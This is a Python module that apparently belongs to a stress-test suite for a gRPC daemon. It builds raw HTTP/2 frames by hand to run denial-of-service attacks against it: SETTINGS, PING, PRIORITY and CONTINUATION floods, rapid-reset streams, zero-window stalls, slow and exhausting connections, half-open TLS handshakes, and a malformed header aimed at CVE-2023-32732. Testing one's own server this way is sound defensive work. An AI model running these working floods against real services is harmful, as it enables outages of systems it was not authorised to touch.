"""Peers that speak HTTP/2 frame by frame (RFC 9113), as no library would."""

import contextlib
import dataclasses
import select
import struct

from attacks.catalogue import APART, STORM, attack, hold

DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MAX_FRAME = 16384
INFO = "/collided.v1.CollisionService/GetServerInfo"
STREAM = "/collided.v1.CollisionService/StreamFrames"


def frame(kind, flags, stream, body=b""):
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


def text(value):
    """An HPACK string without Huffman's code."""
    size = len(value)
    if size < 127:
        return bytes([size]) + value
    head, rest = b"\x7f", size - 127
    while rest > 127:
        head, rest = head + bytes([128 | rest & 127]), rest >> 7
    return head + bytes([rest]) + value


def block(path, token, extra=b""):
    """HPACK literals, without its tables."""
    return (b"\x83\x86\x04" + text(path.encode()) + b"\x01" + text(b"localhost") + b"\x0f\x10" + text(b"application/grpc")
            + b"\x0f\x08" + text(b"Bearer " + token.encode()) + b"\x00" + text(b"te") + text(b"trailers") + extra)


class Http2:
    """A connection that has begun. It is ended by the daemon: ConnectionError; not read by it: TimeoutError."""

    def __init__(self, target, settings=b"", reads=True):
        self.socket, self.token, self.reads, self.next = target.tcp(), target.token, reads, 1
        self.socket.settimeout(1)
        self.readable = select.poll()  # bears descriptors above 1,023
        self.readable.register(self.socket, select.POLLIN)
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def send(self, data):
        self.socket.sendall(data)
        while self.reads and self.readable.poll(0):
            self.receive()

    def receive(self):
        data = self.socket.recv(1 << 16)
        if not data:
            raise ConnectionResetError("ended")
        return data

    def headers(self, path=INFO, flags=END_HEADERS, extra=b""):
        """Those of a new call."""
        head = frame(HEADERS, flags, self.next, block(path, self.token, extra))
        self.next += 2
        return head

    def close(self):
        self.socket.close()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.close()


def flood(peer, told, over, name, data, times=200):
    with peer:
        while not over.is_set():
            peer.send(data * times)
            told[name] += times


@attack("http2")
def settings_flood(target, told, over):
    """SETTINGS without end, each of which asks for an acknowledgement."""
    flood(Http2(target), told, over, "settings", frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)))


@attack("http2")
def ping_flood(target, told, over):
    """PINGs without end, whose answers nobody reads."""
    flood(Http2(target, reads=False), told, over, "pings", frame(PING, 0, 0, bytes(8)))


@attack("http2")
def window_flood(target, told, over):
    """WINDOW_UPDATEs and PRIORITYs of streams that do not exist."""
    data = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) + frame(PRIORITY, 0, 9, struct.pack(">IB", 0, 1))
    flood(Http2(target), told, over, "updates", data)


def known(target):
    """A connection whose client is known: it has made a call, which was answered."""
    peer = Http2(target, reads=False)
    try:
        peer.send(peer.headers() + frame(DATA, END_STREAM, peer.next - 2, bytes(5)))
        while bytes([HEADERS, END_HEADERS | END_STREAM]) not in peer.receive():  # its trailers
            continue
    except OSError:
        peer.close()
        raise
    peer.reads = True
    return peer


@attack(APART)
def settings_of_a_client(target, told, over):
    """SETTINGS without end by a client that has made a call."""
    flood(known(target), told, over, "settings", frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)))


@attack(APART)
def priorities_of_a_client(target, told, over):
    """PRIORITYs, which nobody answers, without end by a client that has made a call."""
    flood(known(target), told, over, "priorities", frame(PRIORITY, 0, 9, struct.pack(">IB", 0, 1)))


@attack(APART)
def noise_between_calls(target, told, over):
    """Calls that are answered, with megabytes of PRIORITYs before each."""
    with known(target) as peer:
        while not over.is_set():
            for _ in range(1000):
                peer.send(frame(PRIORITY, 0, 9, struct.pack(">IB", 0, 1)) * 200)
                told["priorities"] += 200
            stream = peer.next
            peer.send(peer.headers() + frame(DATA, END_STREAM, stream, bytes(5)))
            told["calls"] += 1


@attack("http2")
def window_overflow(target, told, over):
    """Windows above what there can be."""
    with Http2(target) as peer:
        for _ in range(3):
            peer.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1)))
            told["updates"] += 1


def stranger(target):
    return dataclasses.replace(target, token="")


def resets(peer, count, message=False):
    """Calls that are reset as soon as they have begun, or with the head of a message before."""
    data = b""
    for _ in range(count):
        stream = peer.next
        data += peer.headers(STREAM)
        if message:
            data += frame(DATA, 0, stream, bytes(5))
        data += frame(RESET, 0, stream, struct.pack(">I", 8))
    return data


def keep_resetting(target, told, over, message=False):
    with Http2(target) as peer:
        while not over.is_set():
            peer.send(resets(peer, 100, message))
            told["resets"] += 100


@attack("http2")
def rapid_reset(target, told, over):
    """Calls that are reset as soon as they have begun."""
    keep_resetting(target, told, over)


@attack(STORM)
def reset_storm(target, told, over):
    """Connections without a token that bring 2,000 resets and are closed at once."""
    with Http2(stranger(target)) as peer:
        storm = PREFACE + frame(SETTINGS, 0, 0) + resets(peer, 2000)
    while not over.is_set():
        with contextlib.closing(target.tcp()) as peer:
            peer.sendall(storm)
            told["resets"] += 2000


@attack(STORM)
def reset_storm_kept(target, told, over):
    """Resets without a token and without end, on one connection."""
    keep_resetting(stranger(target), told, over)


@attack(STORM)
def reset_storm_of_messages(target, told, over):
    """The same of calls that have sent the head of a message."""
    keep_resetting(stranger(target), told, over, message=True)


@attack(STORM)
def calls_without_end(target, told, over):
    """As many calls as may be open, on as many connections as there are places, each with the head of a message and no more."""
    peers = held(lambda: Http2(stranger(target)), 400)
    for peer in peers:
        with contextlib.suppress(OSError):
            for _ in range(100):
                stream = peer.next
                peer.send(peer.headers(STREAM) + frame(DATA, 0, stream, struct.pack(">BI", 0, 1000)))
    hold(peers, told, over)


@attack(STORM)
def refused_calls(target, told, over):
    """Whole calls without a token."""
    with Http2(stranger(target)) as peer:
        while not over.is_set():
            stream = peer.next
            peer.send(peer.headers() + frame(DATA, END_STREAM, stream, bytes(5)))
            told["calls"] += 1


@attack(STORM)
def bad_binary_header(target, told, over):
    """Calls whose binary metadata is no base64, for which gRPC 1.51 ends the connection (CVE-2023-32732)."""
    bad = b"\x00" + text(b"x-bin") + text(b"!")
    with Http2(target) as peer:
        while not over.wait(0.001):
            stream = peer.next
            peer.send(peer.headers(extra=bad) + frame(DATA, END_STREAM, stream, bytes(5)))
            told["calls"] += 1


@attack("http2")
def continuation_flood(target, told, over):
    """A header that never ends: CONTINUATION after CONTINUATION."""
    with Http2(target) as peer:
        peer.send(peer.headers(flags=0))
        more = frame(CONTINUATION, 0, 1, (b"\x00" + text(b"x-a") + text(b"y" * 100)) * 100)
        while not over.is_set():
            peer.send(more)
            told["continuations"] += 1


@attack("http2")
def headers_without_end(target, told, over):
    """Fifty connections whose header stops in the middle."""
    peers = held(lambda: Http2(target), 50)
    for peer in peers:
        with contextlib.suppress(OSError):
            peer.send(peer.headers(flags=0))
    hold(peers, told, over)


@attack(APART)
def huge_headers(target, told, over):
    """Calls with a megabyte of headers."""
    with Http2(target) as peer:
        while not over.is_set():
            lines = block(INFO, peer.token, (b"\x00" + text(b"x-a") + text(b"y" * 4000)) * 256)
            parts = [lines[at:at + MAX_FRAME] for at in range(0, len(lines), MAX_FRAME)]
            stream, peer.next = peer.next, peer.next + 2
            peer.send(frame(HEADERS, 0, stream, parts[0])
                      + b"".join(frame(CONTINUATION, 0, stream, part) for part in parts[1:-1])
                      + frame(CONTINUATION, END_HEADERS, stream, parts[-1]))
            told["headers"] += 1


@attack("http2")
def window_of_zero(target, told, over):
    """Whole calls whose answers cannot be sent: the window is zero and stays so."""
    with Http2(target, struct.pack(">HI", 4, 0)) as peer:
        while not over.wait(0.01):
            stream = peer.next
            peer.send(peer.headers() + frame(DATA, END_STREAM, stream, bytes(5)))
            told["calls"] += 1


@attack("http2")
def half_requests(target, told, over):
    """A hundred calls of which half a message comes, then nothing."""
    with Http2(target) as peer:
        for _ in range(100):
            stream = peer.next
            peer.send(peer.headers() + frame(DATA, 0, stream, struct.pack(">BI", 0, 1000) + b"half"))
        told["calls"] += 100
        over.wait()


@attack("http2")
def data_past_the_end(target, told, over):
    """Data after END_STREAM."""
    with Http2(target) as peer:
        for _ in range(100):
            stream = peer.next
            peer.send(peer.headers() + frame(DATA, END_STREAM, stream, bytes(5)) + frame(DATA, 0, stream, bytes(1000)))
            told["calls"] += 1


@attack(APART)
def empty_data(target, told, over):
    """DATA without data, for a message that never begins."""
    with Http2(target) as peer:
        stream = peer.next
        peer.send(peer.headers())
        while not over.is_set():
            peer.send(frame(DATA, 0, stream) * 500)
            told["frames"] += 500


def held(connect, count):
    """Opens `count` connections, or as many as are accepted."""
    peers = []
    with contextlib.suppress(OSError):
        peers += (connect() for _ in range(count))
    return peers


@attack("connections")
def connection_flood(target, told, over):
    """Connections that come and go as fast as they can."""
    while not over.is_set():
        with contextlib.closing(target.tcp()):
            told["connections"] += 1


@attack("connections")
def silent_connections(target, told, over):
    """More connections than the daemon has places, which say nothing."""
    hold(held(target.tcp, 1200), told, over)


@attack(STORM)
def handshakes_without_end(target, told, over):
    """As many connections as there are places, each with the beginning of a TLS handshake, held for as long as they may be."""
    peers = held(target.bytes, 400)
    for peer in peers:
        with contextlib.suppress(OSError):
            peer.sendall(b"\x16\x03\x01")
    hold(peers, told, over)


@attack("connections")
def tls_hello(target, told, over):
    """The beginning of a TLS handshake, to a plain port."""
    with contextlib.closing(target.bytes()) as peer:
        peer.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(507))
        told["hellos"] += 1
        peer.recv(100)


@attack("connections")
def http1_garbage(target, told, over):
    """HTTP/1 and noise, where HTTP/2 is spoken."""
    for data in (b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", bytes(range(256)) * 64):
        with contextlib.closing(target.bytes()) as peer:
            peer.sendall(data)
            told["garbage"] += 1
            peer.recv(100)


@attack("connections")
def slow_http(target, told, over):
    """Three hundred requests for metrics, a byte at a time."""
    peers = held(lambda: target.bytes(target.http_port), 300)
    told["connections"] += len(peers)
    while not over.wait(0.2):
        for peer in peers:
            try:
                peer.send(b"X")
            except OSError:  # it had to make room
                told["ended"] += 1
    for peer in peers:
        peer.close()


@attack("connections")
def metrics_flood(target, told, over):
    """Metrics, asked for without a pause."""
    with contextlib.closing(target.bytes(target.http_port)) as peer:
        peer.sendall(b"GET /metrics HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n")
        while peer.recv(1 << 16):
            pass
        told["answers"] += 1
